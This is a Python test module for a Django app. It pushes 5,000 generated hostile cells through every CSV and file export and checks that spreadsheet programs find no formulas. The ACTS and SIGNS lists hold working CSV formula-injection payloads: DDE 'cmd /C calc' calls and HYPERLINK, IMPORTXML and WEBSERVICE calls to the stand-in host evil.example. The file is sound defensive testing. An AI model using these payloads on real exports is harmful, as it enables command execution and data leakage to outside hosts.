"""5,000 hostile cells through every export that there is: no spreadsheet program finds a formula in it."""

import csv
import io
import random

import pytest
from django.urls import reverse

from journeys import spreadsheets
from journeys.world import read, undone
from qlabs.base.people.models import Import
from qlabs.base.people.transfer import read_sheet

ROWS, COLUMNS = 125, 40
DOWNLOADS = {
    "people:refused",
    "ballots:csv",
    "ballots:file",
    "ballots:recount",
    "lab:log_file",
    "lab:log_program",
}
SIGNS = "=+-@|＝＋－＠"
BEFORE = (
    "",
    "",
    " ",
    "\t",
    "\n",
    "a;",
    "a\t",
    "a,",
    "a\n\t",
    " \n ",
    '"',
    '";',
    '",',
    "''",
    "';",
    "=",
    "x; ",
    "\u200b",
)
ACTS = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://evil.example/"&A1,"Click")',
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    'IMPORTXML("http://evil.example","//a")',
    'WEBSERVICE("http://evil.example")',
    'DDE("cmd";"/C calc";"x")',
    "2+5;=2+5",
    "44 20 7946 0000",
    "{1;2}",
)

pytestmark = [pytest.mark.django_db, pytest.mark.xdist_group("exports")]


@pytest.fixture(scope="module")
def exports(world):
    """{url name: (content type, bytes)} of every url that sends a file; an export that somebody adds is among them."""
    found = {}
    with undone():
        kept = _import(world)
        for (name, _case), kwargs in world.addresses().items():
            wanted = {**kwargs, "pk": kept.pk} if name == "people:refused" else kwargs
            answer = world.client("operator").get(reverse(name, kwargs=wanted))
            if "attachment" in answer.headers.get("Content-Disposition", ""):
                found[name] = (answer.headers["Content-Type"].split(";")[0], read(answer))
            else:
                read(answer)
        found["cells"] = [kept.headings, *(row["cells"] for row in kept.refused)]
    return found


def _hostile_cells():
    draw = random.Random(20170327)
    cells = [start + sign + act for start in BEFORE for sign in SIGNS for act in ACTS]
    cells = draw.sample(cells, len(cells)) * (ROWS * COLUMNS // len(cells) + 1)
    return [cells[row * COLUMNS : (row + 1) * COLUMNS] for row in range(ROWS)]


def _import(world):
    """The cells as an uploaded list, each row of which is refused."""
    out = io.StringIO()
    csv.writer(out).writerows([["Name", "Email", *(f"={n}" for n in range(COLUMNS - 2))], *_hostile_cells()])
    file = io.BytesIO(out.getvalue().encode())
    file.name = "list.csv"
    answer = world.client("operator").post(reverse("people:import"), {"file": file, "source": "X"})
    return Import.objects.get(pk=int(answer.url.split("/")[-2]))


def csv_files(exports):
    return [content for kind, content in (exports[name] for name in DOWNLOADS) if kind == "text/csv"]


def lists_to_fix(exports):
    """Of these what was typed comes back, to be imported again."""
    return [content for content in csv_files(exports) if b"What to fix" in content]


def test_every_export_is_known(exports):
    assert set(exports) - {"cells"} == DOWNLOADS
    kinds = {kind for kind, _content in (exports[name] for name in DOWNLOADS)}
    assert kinds == {"text/csv", "application/json", "application/x-ndjson", "text/x-python"}
    assert len(exports["cells"]) == 1 + ROWS


def test_a_second_reader_finds_no_formula(exports):
    for content in csv_files(exports):
        assert spreadsheets.formulas(spreadsheets.opened_by_reader(content)) == []
    for content in lists_to_fix(exports):
        assert as_imported("list.csv", content) == exports["cells"]


@pytest.mark.skipif(not spreadsheets.PROGRAM, reason="LibreOffice (soffice) is not on this machine")
@pytest.mark.parametrize("separators", spreadsheets.SEPARATORS.values(), ids=spreadsheets.SEPARATORS)
def test_no_formula_starts_when_a_spreadsheet_program_opens_an_export(exports, separators, tmp_path):
    for content in csv_files(exports):
        book = spreadsheets.opened_by_program(content, separators=separators, folder=tmp_path)
        assert spreadsheets.formulas(book) == []
        if "44" in separators.split("/") and content in lists_to_fix(exports):
            assert as_imported("list.xlsx", book) == exports["cells"]


@pytest.mark.skipif(not spreadsheets.PROGRAM, reason="LibreOffice (soffice) is not on this machine")
def test_the_same_cells_unguarded_are_formulas(exports, tmp_path):
    """So that the tests above can fail: the program works formulas out where it finds them."""
    out = io.StringIO()
    csv.writer(out).writerows(exports["cells"])
    book = spreadsheets.opened_by_program(out.getvalue().encode(), separators="44/59/9", folder=tmp_path)
    assert len(spreadsheets.formulas(book)) > 500


def as_imported(name, content):
    """Headings and rows as our own import reads them, without the column that says what to mend."""
    sheet = read_sheet(name, content)
    assert sheet.headings[-1] == "What to fix"
    return [sheet.headings[:-1], *((cells + [""] * COLUMNS)[:COLUMNS] for _number, cells in sheet.rows)]
